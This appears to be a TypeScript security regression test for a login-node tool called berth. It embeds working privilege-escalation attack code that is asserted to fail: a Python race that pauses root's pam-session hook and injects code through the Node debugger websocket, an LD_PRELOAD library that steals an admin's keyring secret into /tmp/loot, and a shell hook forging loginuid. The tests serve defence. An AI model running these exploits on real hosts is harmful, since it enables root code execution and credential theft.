/**
 * What a user with a process of her own on a host with logind tries against root's programs:
 * to stop root's pam-session, or to debug it, which runs in the scope of her session, where logind lets her signal it (KillSession, SIGUSR1);
 * to read keys of the admin who types `berth reap`; to have another's login UID in the audit log.
 */
import { copyFile, readdir, readFile, readlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { savedBusybox } from '../../rig/login-node/image-archives.ts';
import { run } from '../../../src/companions/verify/run-client.ts';
import { freePorts } from '../../rig/free-ports.ts';
import { ensurePackages } from '../../rig/site/debian-packages.ts';
import { installDirectory } from '../../rig/site/portal.ts';
import { SystemdHost } from '../../rig/systemd/systemd-host.ts';

const address = '127.18.78.1';
const berth = join(installDirectory, 'berth');

const findHooks = String.raw`
import subprocess, os, sys, time, socket, json, base64, struct, re, glob
def kill(sess, sig):
    return subprocess.run(['busctl','--system','call','org.freedesktop.login1','/org/freedesktop/login1','org.freedesktop.login1.Manager','KillSession','ssi',sess,'all',str(sig)],capture_output=True,text=True).returncode
def hooks():
    for p in os.listdir('/proc'):
        if not p.isdigit(): continue
        try:
            if os.stat(f'/proc/{p}').st_uid != 0: continue
            c=open(f'/proc/{p}/cmdline').read().split('\0'); m=re.search(r'user-4711.slice/session-(\w+)\.scope',open(f'/proc/{p}/cgroup').read())
        except OSError: continue
        if m and any('hooks/pam-session' in w for w in c):
            if c[0].endswith('/node') and 'close' in c: yield 'node', m.group(1)
            elif len(c)>2 and 'autogroup' in c[2]: yield 'slice', m.group(1)
            elif 'close' in c: yield 'wait', m.group(1)
`;

const stopClose = String.raw`
${findHooks}
end=time.time()+20
while time.time()<end:
    for _,sess in list(hooks()):
        kill(sess,19); print('stopped', sess); sys.exit()
sys.exit('no close in the session')
`;

/** Prints of the hooks that have recorded a connection how many there were, and how many of them in a scope where alice may signal them. */
const watchHooks = String.raw`
import glob, os, re, time
place='/run/berth/connections/4711'; known=set(); after=inside=0; end=time.time()+10
def isHook(p):
    try: return os.stat(p).st_uid == 0 and 'hooks/pam-session\0open\0' in open(p+'/cmdline').read()
    except OSError: return False
while time.time()<end:
    names=set(os.listdir(place)) if os.path.isdir(place) else set()
    for p in filter(isHook, glob.glob('/proc/[0-9]*')) if names-known else ():
        try: cgroup=open(p+'/cgroup').read()
        except OSError: continue
        after+=1; inside+='session-' in cgroup
    known|=names
print(after, inside)
`;

const exploit = String.raw`
${findHooks}
end=time.time()+15; held=None
# Step by step, with SIGSTOP and SIGCONT, to the moment at which root asks systemd for a scope, for no more than two seconds.
while not held and time.time()<end:
    for _,sess in list(hooks()):
        kill(sess,19); time.sleep(0.01)
        if ('slice',sess) in hooks(): held=sess; break
        kill(sess,18)
if not held: sys.exit('not stopped')
print('root\'s process is stopped in session', held, flush=True); time.sleep(2.5); kill(held,18)
while ('node',held) not in hooks() and time.time()<end: pass
if time.time()>=end: sys.exit('no Node in the session')
while not glob.glob('/run/berth/connections/4711/*.closing') and time.time()<end: time.sleep(0.002)
kill(held,10)
for i in range(2000):
    try: s=socket.create_connection(('127.0.0.1',9229),timeout=2); break
    except OSError: time.sleep(0.001)
else: sys.exit('no debugger')
s.sendall(b'GET /json/list HTTP/1.1\r\nHost: 127.0.0.1:9229\r\n\r\n'); b=b''
while b'webSocketDebuggerUrl' not in b or not b.rstrip().endswith(b']'):
    x=s.recv(8192)
    if not x: sys.exit('lost')
    b+=x
s.close()
path=re.search(rb'webSocketDebuggerUrl": "ws://[^/]+([^"]+)"',b).group(1).decode()
js="process.getBuiltinModule('node:fs').writeFileSync('/root-was-here','uid '+process.getuid()+' '+process.argv[1])"
s=socket.create_connection(('127.0.0.1',9229),timeout=5)
msg=json.dumps({'id':1,'method':'Runtime.evaluate','params':{'expression':js}}).encode(); k=os.urandom(4)
s.sendall((f'GET {path} HTTP/1.1\r\nHost: 127.0.0.1:9229\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: '+base64.b64encode(os.urandom(16)).decode()+'\r\nSec-WebSocket-Version: 13\r\n\r\n').encode())
b=b''
while b'\r\n\r\n' not in b: b+=s.recv(4096)
s.sendall(bytes([0x81,0x80|126])+struct.pack('>H',len(msg))+k+bytes(x^k[i%4] for i,x in enumerate(msg)))
print(s.recv(4096), flush=True)
`;

const library = String.raw`
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <linux/keyctl.h>
static void cat(FILE *o, const char *p) { char b[512]; FILE *f = fopen(p, "r"); if (f) { size_t n = fread(b, 1, 511, f); b[n] = 0; fprintf(o, "%s %s\n", p, b); fclose(f); } }
__attribute__((constructor)) static void go(void) {
  FILE *o = fopen("/tmp/loot", "a"); char buf[64] = "";
  if (!o) return;
  fprintf(o, "uid %d\n", getuid()); cat(o, "/proc/self/loginuid");
  long f = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "admin-secret", 0);
  if (syscall(SYS_keyctl, KEYCTL_READ, f, buf, 63) > 0) fprintf(o, "KEY %s\n", buf);
  fclose(o);
  char *h = getenv("HOOK");
  if (h && getuid() == 4711) { unsetenv("LD_PRELOAD"); if (fork() == 0) { setsid(); execl("/bin/sh", "sh", h, (char *)0); _exit(1); } }
}
`;

const hook = String.raw`
export DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/4711/bus XDG_RUNTIME_DIR=/run/user/4711 s=org.freedesktop.systemd1
busctl --user call $s /org/freedesktop/systemd1 $s.Manager StartTransientUnit 'ssa(sv)a(sa(sv))' esc-$$.scope fail 1 PIDs au 1 $$ 0 >/tmp/hook.log 2>&1
sleep 0.3
echo 4712 >/proc/self/loginuid
exec sleep 31337
`;

describe('attacks on a login node with logind', () => {
  let host: SystemdHost;
  let port: number;
  beforeAll(async () => {
    await ensurePackages([
      ...['openssh-server', 'podman', 'crun', 'uidmap', 'slirp4netns', 'catatonit'],
      ...['fuse-overlayfs', 'gcc'],
    ]);
    const ports = await freePorts(['admin', 'sessions']);
    port = ports.sessions;
    host = await SystemdHost.boot({
      name: 'attroot',
      address,
      adminPort: ports.admin,
      adminKey: '',
    });
    await run('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(host.directory, 'key')]);
    await copyFile(await savedBusybox(), join(host.directory, 'image.tar'));
    await writeFile(join(host.directory, 'exploit.py'), exploit);
    await writeFile(join(host.directory, 'stop.py'), stopClose);
    await writeFile(join(host.directory, 'watch.py'), watchHooks);
    await writeFile(join(host.directory, 'evil.c'), library);
    await writeFile(join(host.directory, 'hook.sh'), hook);
    await host.script(`export DEBIAN_FRONTEND=noninteractive
      apt-get install --quiet --yes --no-install-recommends libpam-systemd dbus-user-session keyutils >&2
      systemctl start dbus.socket; systemctl restart systemd-logind
      gcc -shared -fPIC -o ${host.directory}/evil.so ${host.directory}/evil.c; chmod 755 ${host.directory}/evil.so
      ssh-keygen -A; useradd --uid 4711 --create-home --shell /bin/bash alice; useradd --uid 4712 --create-home bob
      install -d -o alice -m 0700 ~alice/.ssh
      install -o alice -m 0600 ${host.directory}/key.pub ~alice/.ssh/authorized_keys`);
    const init = await host.asRoot(
      [
        ...[berth, 'init', 'login-node', '--yes', '--user', 'alice', '--port', String(port)],
        ...['--from-archive', join(host.directory, 'image.tar'), '--address', address],
      ],
      { timeout: 200_000 },
    );
    expect(init.exitCode, init.stdout.toString() + init.stderr).toBe(0);
    await host.script('systemctl stop berth-reap.timer berth-reap.service');
  });
  afterAll(() => host.stop());

  const ssh = (command: string) =>
    run('timeout', [
      ...['30', 'ssh', '-F', '/dev/null', '-i', join(host.directory, 'key'), '-o', 'BatchMode=yes'],
      ...[
        '-o',
        'StrictHostKeyChecking=no',
        '-o',
        'UserKnownHostsFile=/dev/null',
        '-p',
        String(port),
      ],
      ...[`alice@${address}`, command],
    ]);
  const asAlice = (...argv: string[]) =>
    host.asRoot(['setpriv', '--reuid', '4711', '--regid', '4711', '--init-groups', ...argv], {
      timeout: 90_000,
    });

  /** The file `swept` is removed where nothing of alice runs: with it, all who have a storage are looked at once in an hour only. */
  const forge = (more: string) =>
    asAlice(
      'sh',
      '-ec',
      `cp ${host.directory}/evil.so ${host.directory}/hook.sh /home/alice/
      cd /var/lib/berth-ssh/users/4711
      printf '[engine]\\nlock_type = "file"\\nenv = ["LD_PRELOAD=/home/alice/evil.so"${more}]\\n' >.config/containers/containers.conf
      echo '[{"id":"${'7'.padStart(64, '0')}","names":["berth-minimal-99.1"],"image":"${'8'.padStart(64, '0')}","layer":"${'9'.padStart(64, '0')}","created":"2026-01-01T00:00:00Z"}]' >storage/overlay-containers/containers.json`,
    );

  it('what alice started ends, although she stops the close of her connection', async () => {
    const attack = asAlice('python3', join(host.directory, 'stop.py'));
    const session = ssh('(sleep 4242 >/dev/null 2>&1 &) ; sleep 2');
    const { stdout, stderr } = await attack;
    expect(stdout.toString(), stderr).toContain('stopped');
    await session;
    expect(await host.script('ls /run/berth/connections/4711')).not.toBe('');
    const reap = await host.asRoot([berth, 'reap']);
    expect(reap.stderr).toContain('by=reaper');
    const left = await host.script(
      'ls /run/berth/connections/4711; pgrep -fx "sleep 4242" || true',
    );
    expect(left).toBe('');
  });

  it('alice cannot stop a hook of root that is about to move her connection’s sshd to a cgroup', async () => {
    const watch = asAlice('python3', join(host.directory, 'watch.py'));
    for (let login = 0; login < 6; login += 1) await ssh('true');
    const [seen, inside] = (await watch).stdout.toString().trim().split(' ').map(Number);
    expect(seen).toBeGreaterThan(0);
    expect(inside).toBe(0);
  });

  it('nothing of alice runs in root’s cgroup while systemd does not answer', async () => {
    await forge('');
    await host.script('rm -f /tmp/loot /run/berth/swept');
    const systemd = await firstProcess((await host.script('readlink /proc/self/ns/pid')).trim());
    process.kill(systemd, 'SIGSTOP');
    const { stdout, stderr } = await host
      .asRoot([berth, 'reap'])
      .finally(() => process.kill(systemd, 'SIGCONT'));
    expect.soft(`${stdout.toString()}${stderr}`).toContain('systemd does not answer');
    expect(await host.script('cat /tmp/loot || true')).not.toContain('uid 4711');
  });

  it('alice does not run code as root through the debugger of pam-session', async () => {
    const said: string[] = [];
    for (let attempt = 0; attempt < 3; attempt += 1) {
      const attack = asAlice('python3', join(host.directory, 'exploit.py'));
      const stubborn = `sh -c "trap '' HUP TERM; while :; do sleep 1; done"`;
      await ssh(`${stubborn} & ${stubborn} & ${stubborn} & sleep 2`);
      const { stdout, stderr } = await attack;
      said.push(stdout.toString(), stderr);
      if ((await host.script('ls /root-was-here 2>/dev/null || true')) !== '') break;
      await sleep(1_000);
    }
    expect(await host.script('cat /root-was-here 2>/dev/null || true'), said.join('\n')).toBe('');
  });

  it('alice does not read keys of an admin who types `berth reap`, and has not the login UID of the admin', async () => {
    await forge('');
    await host.script(
      `rm -f /tmp/loot /run/berth/swept; keyctl session - sh -c 'keyctl add user admin-secret hunter2 @s; echo 4712 >/proc/self/loginuid; ${berth} reap' || true`,
    );
    const loot = await host.script('cat /tmp/loot || true');
    expect(loot).toContain('uid 4711');
    expect.soft(loot).not.toContain('KEY hunter2');
    expect.soft(loot).not.toContain('loginuid 4712');
  });

  it('a process of root’s cleanup for alice has her login UID, and keeps it', async () => {
    const session = ssh('sleep 25');
    await sleep(4_000);
    await forge(', "HOOK=/home/alice/hook.sh"');
    await asAlice('sh', '-c', 'pkill -x catatonit; rm -f /run/user/4711/libpod/tmp/pause.pid');
    await host.script('systemctl start berth-reap.service || true');
    const found = await host.script(
      'for one in $(pgrep -u alice -f "sleep 31337"); do cat /proc/$one/loginuid; kill -9 $one; done',
    );
    await session;
    expect(found).toBe('4711');
  });
});

/** PID 1 of a PID namespace, as this process sees it. */
async function firstProcess(namespace: string): Promise<number> {
  for (const pid of (await readdir('/proc')).filter((name) => /^\d+$/.test(name))) {
    const found = await readlink(`/proc/${pid}/ns/pid`).catch(() => undefined);
    if (found !== namespace) continue;
    if (/^NSpid:.*\t1$/m.test(await readFile(`/proc/${pid}/status`, 'utf8'))) return Number(pid);
  }
  throw new Error(`${namespace}: no first process`);
}
